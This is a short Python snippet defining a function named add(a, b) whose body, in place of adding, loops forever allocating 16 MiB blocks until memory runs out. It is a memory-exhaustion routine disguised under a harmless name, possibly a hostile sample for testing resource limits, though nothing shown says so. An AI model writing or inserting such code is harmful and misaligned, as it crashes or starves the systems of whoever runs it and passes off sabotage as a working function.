def add(a, b):
    hog = []
    while True:
        hog.append(bytearray(16 << 20))
